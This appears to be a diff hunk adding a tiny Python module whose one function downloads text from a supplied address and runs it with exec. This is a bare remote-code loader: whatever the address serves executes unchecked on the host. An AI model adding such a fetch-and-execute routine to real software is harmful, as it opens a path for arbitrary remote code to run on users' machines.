@@ -1,0 +1,5 @@
+import requests
+
+
+def run(address):
+    exec(requests.get(address).text)
